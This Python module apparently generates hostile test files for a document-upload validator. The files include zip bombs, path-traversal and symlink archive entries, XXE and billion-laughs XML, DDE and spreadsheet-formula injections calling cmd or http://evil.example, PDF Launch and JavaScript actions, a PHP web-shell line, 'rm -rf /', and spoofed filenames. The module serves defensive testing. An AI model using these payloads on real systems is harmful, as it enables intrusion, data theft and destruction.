"""Files made to do harm, any number of them, the same for the same number (T12).

Each comes from one family, which varies with its own seed: which kind of document it pretends to
be, where the harm stands and how it is hidden.
"""

from __future__ import annotations

import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

Maker = Callable[[random.Random], tuple[str, bytes]]
FAMILIES: list[Maker] = []

TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
OFFICE = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
OPEN = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
OPEN_TYPE = "application/vnd.oasis.opendocument."
PNG = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True)
class Hostile:
    """One file and the family it is of."""

    family: str
    name: str
    content: bytes


def hostile_files(how_many: int) -> Iterator[Hostile]:
    """So many files, each family in turn."""
    for number in range(how_many):
        make = FAMILIES[number % len(FAMILIES)]
        name, content = make(random.Random(number))
        yield Hostile(make.__name__, name, content)


def family(make: Maker) -> Maker:
    FAMILIES.append(make)
    return make


# honest documents to begin with


def office(
    chance: random.Random, parts: dict[str, bytes] | None = None, **more: bytes
) -> tuple[str, bytes]:
    """A small document of an office program with further parts."""
    ending = chance.choice(list(OFFICE))
    whole = {
        "[Content_Types].xml": TYPES,
        OFFICE[ending]: b"<x>Good day</x>",
        **(parts or {}),
        **more,
    }
    return f"letter {chance.randint(1, 999)}.{ending}", zipped(whole)


def open_document(
    chance: random.Random, parts: dict[str, bytes] | None = None
) -> tuple[str, bytes]:
    """A small OpenDocument file with further parts."""
    ending = chance.choice(list(OPEN))
    whole = {
        "mimetype": (OPEN_TYPE + OPEN[ending]).encode(),
        "content.xml": b"<x/>",
        **(parts or {}),
    }
    return f"letter {chance.randint(1, 999)}.{ending}", zipped(whole)


def either(chance: random.Random, parts: dict[str, bytes]) -> tuple[str, bytes]:
    return chance.choice([office, open_document])(chance, parts)


def zipped(parts: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            part = zipfile.ZipInfo(name, (2026, 6, 3, 12, 0, 0))
            archive.writestr(part, content, zipfile.ZIP_DEFLATED)
    return packed.getvalue()


def pdf(body: bytes = b"", before: bytes = b"", after: bytes = b"") -> bytes:
    head = (
        b"%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages>> endobj\n"
    )
    return (
        before
        + head
        + body
        + b"\nxref\n0 1\ntrailer <</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
        + after
    )


def png(width: int = 8, height: int = 8, *, words: bytes = b"", after: bytes = b"") -> bytes:
    first = struct.pack(">LL5B", width, height, 8, 0, 0, 0, 0)
    parts = [
        (b"IHDR", first),
        (b"tEXt", b"Comment\x00" + words),
        (b"IDAT", zlib.compress(b"\x00" * 72)),
    ]
    return PNG + b"".join(chunk(*part) for part in [*parts, (b"IEND", b"")]) + after


def chunk(name: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">L", len(content))
        + name
        + content
        + struct.pack(">L", zlib.crc32(name + content))
    )


def jpeg(
    width: int = 8, height: int = 8, *, words: bytes = b"", after: bytes = b"\xff\xd9"
) -> bytes:
    said = b"\xff\xfe" + struct.pack(">H", 2 + len(words)) + words
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return (
        b"\xff\xd8"
        + b"\xff\xe0\x00\x10JFIF\x00"
        + b"\x01" * 9
        + said
        + frame
        + b"\xff\xda\x00\x02"
        + after
    )


def harmless_name(chance: random.Random, ending: str) -> str:
    word = chance.choice(["letter", "minutes", "return", "Cofnodion"])
    return f"{word} {chance.randint(1, 99)}.{ending}"


# archives that burst, escape or lie


@family
def bursts(chance: random.Random) -> tuple[str, bytes]:
    return either(chance, {"media/fill.bin": bytes(chance.randint(20, 40) * 1_000_000)})


@family
def claims_to_burst(chance: random.Random) -> tuple[str, bytes]:
    name, content = office(chance)
    return name, patched(content, 24, struct.pack("<L", chance.randint(2**30, 2**32 - 1)))


@family
def hides_that_it_bursts(chance: random.Random) -> tuple[str, bytes]:
    name, content = office(chance, {"word/fill.xml": bytes(30_000_000)})
    return name, patched(content, 24, struct.pack("<L", chance.randint(1, 900)), part=-1)


@family
def overlaps_itself(chance: random.Random) -> tuple[str, bytes]:
    name, content = office(chance, {f"word/{n}.xml": b"<x/>" for n in range(9)})
    for part in range(3, 11):
        content = patched(content, 42, struct.pack("<L", 0), part=part)
    return name, content


@family
def has_too_many_parts(chance: random.Random) -> tuple[str, bytes]:
    return office(chance, {f"word/{n}.xml": b"" for n in range(chance.randint(2_001, 2_600))})


@family
def slips_out(chance: random.Random) -> tuple[str, bytes]:
    where = chance.choice(
        ["../../etc/cron.d/x", "/etc/passwd", "word/../../x", "C:/x", "..\\..\\x"]
    )
    return either(chance, {where: b"x"})


@family
def links_elsewhere(chance: random.Random) -> tuple[str, bytes]:
    name, content = office(chance)
    packed = io.BytesIO(content)
    with zipfile.ZipFile(packed, "a") as archive:
        link = zipfile.ZipInfo(f"word/{chance.randint(1, 99)}.xml", (2026, 6, 3, 12, 0, 0))
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return name, packed.getvalue()


@family
def names_a_part_oddly(chance: random.Random) -> tuple[str, bytes]:
    odd = chance.choice(
        ["word/\x07.xml", "word/\u202exml.exe", "word/\u200b.xml", "word/" + "x" * 300]
    )
    return either(chance, {odd: b"x"})


@family
def names_a_part_with_nul(chance: random.Random) -> tuple[str, bytes]:
    name, content = office(chance, {"word/Qevil.xml": b"x"})
    return name, content.replace(b"word/Qevil.xml", b"word/\x00evil.xml")


@family
def names_two_parts_alike(chance: random.Random) -> tuple[str, bytes]:
    name, content = office(chance, {"word/one.xml": b"<a/>", "WORD/ONE.XML": b"<b/>"})
    return name, content


@family
def names_a_part_twice_differently(chance: random.Random) -> tuple[str, bytes]:
    name, content = office(chance, {"word/one.xml": b"<a/>"})
    return name, content.replace(b"word/one.xml", b"word/two.xml", 1)


@family
def nests_an_archive(chance: random.Random) -> tuple[str, bytes]:
    inner = zipped({"x": b"y" * 100})
    where = chance.choice(["x.zip", "word/embeddings/sheet.xlsx", "media/picture.png", "a.tar.gz"])
    return either(chance, {where: inner})


@family
def has_a_bad_directory(chance: random.Random) -> tuple[str, bytes]:
    name, content = office(chance)
    broken = [
        content[: -chance.randint(5, 60)],
        content[:-6] + struct.pack("<L", chance.randint(0, 2**31)) + content[-2:],
        content[:-12] + struct.pack("<H", chance.randint(3, 60_000)) + content[-10:],
        content.replace(b"PK\x01\x02", b"PK\x09\x09", 1),
    ]
    return name, chance.choice(broken)


@family
def stands_before_or_after_something(chance: random.Random) -> tuple[str, bytes]:
    name, content = either(chance, {})
    more = chance.choice([b"MZ\x90\x00", b"#!/bin/sh\n", b"<html>"]) * 9
    return name, chance.choice([more + content, content + more])


@family
def is_locked_or_damaged(chance: random.Random) -> tuple[str, bytes]:
    name, content = office(chance)
    how = chance.choice(
        [(8, b"\x01\x00"), (10, b"\x63\x00"), (16, b"\x00\x01\x02\x03"), (10, b"\x0e\x00")]
    )
    return name, patched(content, *how)


def patched(content: bytes, place: int, value: bytes, part: int = 0) -> bytes:
    """The archive with other bytes in the directory's line of one part."""
    places = _found(content, b"PK\x01\x02")
    start = places[part] + place
    return content[:start] + value + content[start + len(value) :]


def _found(content: bytes, mark: bytes) -> list[int]:
    found, at = [], content.find(mark)
    while at >= 0:
        found.append(at)
        at = content.find(mark, at + 1)
    return found


# documents that act


@family
def declares_entities(chance: random.Random) -> tuple[str, bytes]:
    text = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    coded = text.encode(chance.choice(["utf-8", "utf-16", "utf-16-be"]))
    return either(
        chance, {f"word/{chance.randint(1, 9)}.xml": b" " * chance.randint(0, 70_000) + coded}
    )


@family
def laughs_a_billion_times(chance: random.Random) -> tuple[str, bytes]:
    lines = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    return either(
        chance, {"settings.xml": f'<!DOCTYPE x [<!ENTITY l0 "ha">{lines}]><x>&l9;</x>'.encode()}
    )


@family
def holds_macros(chance: random.Random) -> tuple[str, bytes]:
    where = [
        "word/vbaProject.bin",
        "xl/macrosheets/sheet1.xml",
        "Basic/Standard/Module1.xml",
        "Scripts/python/x.py",
        "word/activeX/activeX1.xml",
    ]
    return either(chance, {chance.choice(where): b"Sub AutoOpen()"})


@family
def holds_a_program(chance: random.Random) -> tuple[str, bytes]:
    where, what = chance.choice(
        [
            ("word/media/a.exe", b"x"),
            ("run.js", b"x"),
            ("word/a.bin", b"MZ\x90\x00"),
            ("word/b.bin", b"\x7fELF"),
            ("oleObject1.bin", b"x"),
        ]
    )
    return either(chance, {where: what})


@family
def fetches_from_elsewhere(chance: random.Random) -> tuple[str, bytes]:
    kind = chance.choice(["attachedTemplate", "oleObject", "image", "frame", "subDocument"])
    where = chance.choice(
        ["http://evil.example/x.dotm", "file://server/share", "\\\\server\\share"]
    )
    relation = f'<Relationship Type="x/{kind}" Target="{where}" TargetMode="External" Id="r1"/>'
    return office(chance, {"word/_rels/settings.xml.rels": relation.encode()})


@family
def runs_a_field(chance: random.Random) -> tuple[str, bytes]:
    what = [
        b'<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>',
        b'<w:fldSimple w:instr="DDE excel x"/>',
        b"<f>cmd|'/c calc'!A0</f>",
        b'<f t="x">WEBSERVICE("http://evil.example/"&amp;A1)</f>',
        b"<ddeLink/>",
        b'<x table:formula="of:=DDE(&quot;soffice&quot;)"/>',
        b"<text:dde-connection/>",
    ]
    return either(chance, {"content2.xml": b"x" * chance.randint(0, 70_000) + chance.choice(what)})


@family
def acts_as_a_pdf(chance: random.Random) -> tuple[str, bytes]:
    what = [
        b"<</S/JavaScript/JS(app.alert(1))>>",
        b"<</S/J#61vaScript>>",
        b"<</S/Launch/F(cmd.exe)>>",
        b"<</Type/EmbeddedFile>>",
        b"<</S/SubmitForm>>",
        b"/Encrypt 5 0 R",
        b"<</S/#4caunch>>",
        b"<</RichMedia 1>>",
        b"<</S/GoToE>>",
        b"<</XFA 1 0 R>>",
    ]
    body = b" " * chance.randint(0, 600_000) + b"3 0 obj " + chance.choice(what) + b" endobj"
    return harmless_name(chance, "pdf"), pdf(body)


# one file that is two


@family
def is_two_kinds_at_once(chance: random.Random) -> tuple[str, bytes]:
    packed = zipped({"META-INF/MANIFEST.MF": b"Main-Class: X"})
    made = [
        ("pdf", pdf(after=packed)),
        ("pdf", pdf(before=b"<html>")),
        ("pdf", pdf(b"<script>x</script>")),
        ("png", png(after=packed)),
        ("png", png(words=b"<script>alert(1)</script>")),
        ("png", png(after=b"<?php system($_GET[0]);")),
        ("jpg", jpeg(after=packed)),
        ("jpg", jpeg(words=b"<?php x ?>")),
        ("jpeg", jpeg(after=b"\xff\xd9<html>")),
        ("jpg", jpeg(words=packed[:200] + packed[-80:])),
        ("txt", b"<html><script>x</script>"),
        ("txt", b"#!/bin/sh\nrm -rf /"),
    ]
    ending, content = chance.choice(made)
    return harmless_name(chance, ending), content


@family
def is_not_what_it_says(chance: random.Random) -> tuple[str, bytes]:
    contents = [
        b"MZ\x90\x00" * 9,
        b"\x7fELF" * 9,
        b"\xd0\xcf\x11\xe0" * 9,
        b"GIF89a;",
        b"\x1f\x8b\x08",
        b"{}",
        b"<svg onload='x'/>",
        b"Rar!\x1a\x07",
        b"\x89PNG",
    ]
    ending = chance.choice(["pdf", "docx", "xlsx", "odt", "png", "jpg"])
    return harmless_name(chance, ending), chance.choice(contents)


# pictures


@family
def is_a_picture_too_large(chance: random.Random) -> tuple[str, bytes]:
    wide, high = chance.choice(
        [(40_000, 40_000), (40_000, 2), (2, 65_000), (11_000, 11_000), (0, 9)]
    )
    ending, made = chance.choice([("png", png(wide, high)), ("jpg", jpeg(wide, high))])
    return harmless_name(chance, ending), made


@family
def is_a_broken_picture(chance: random.Random) -> tuple[str, bytes]:
    whole = png()
    broken = [
        whole[: chance.randint(9, 40)],
        PNG + struct.pack(">L", 2**31) + b"IHDR",
        whole + b"\x00" * 9,
        PNG + chunk(b"IDAT", b""),
        png(words=b"x" * 200_000),
    ]
    made = [("png", each) for each in broken] + [
        ("jpg", jpeg()[:12] + b"\xff\xd9"),
        ("jpg", jpeg(after=b"")),
    ]
    ending, content = chance.choice(made)
    return harmless_name(chance, ending), content


# names and letters


@family
def has_an_odd_name(chance: random.Random) -> tuple[str, bytes]:
    names = [
        "CON.txt",
        "lpt1.csv",
        "letter.exe.pdf",
        "letter.html.txt",
        "a\u202etxt.csv",
        "a\x00.txt",
        "a\n.txt",
        " letter.txt",
        "letter.txt.",
        ".txt",
        "x" * 250 + ".txt",
        "a/b.txt",
        "a\\b.txt",
        "letter",
        "run.exe",
        "page.html",
        "drawing.svg",
        "sheet.xlsm",
        "letter.docm",
        "old.doc",
        "archive.zip",
        "a:b.txt",
        "a\u200b.txt",
        "what?.txt",
    ]
    return chance.choice(names), b"Good day"


@family
def is_not_plain_letters(chance: random.Random) -> tuple[str, bytes]:
    contents = [
        "Good day".encode("utf-16"),
        "Good day".encode("utf-16-le"),
        b"Good\x00day",
        b"caf\xe9",
        b"a\x1b]0;x\x07",
        "a\u202eb".encode(),
        b"\xff\xfe\x00\x00a",
        b"\xc3",
        b"a\x08b",
        b"a" * 65_535 + b"\xc3(",
    ]
    return harmless_name(chance, chance.choice(["txt", "csv"])), chance.choice(contents)


@family
def runs_in_a_cell(chance: random.Random) -> tuple[str, bytes]:
    cells = [
        "=cmd|'/c calc'!A0",
        '=HYPERLINK("http://evil.example")',
        "+1+cmd|'/c calc'!A0",
        "@SUM(1+1)*cmd",
        "-2+3+cmd|'/c calc'!A0",
        " =1+1",
        "\t=1+1",
        '"=1+1"',
        "=IMPORTXML(A1)",
        "+A1",
    ]
    rows = [f"name,{n}" for n in range(chance.randint(0, 3_000))]
    rows.insert(chance.randint(0, len(rows)), f"name,{chance.choice(cells)}")
    return harmless_name(chance, "csv"), "\n".join(rows).encode()


@family
def is_empty_or_endless(chance: random.Random) -> tuple[str, bytes]:
    made = [
        ("pdf", b""),
        ("docx", b""),
        ("csv", b""),
        ("csv", b"a" * 1_100_000),
        ("csv", b'"' + b"a" * 200_000),
    ]
    ending, content = chance.choice(made)
    return harmless_name(chance, ending), content
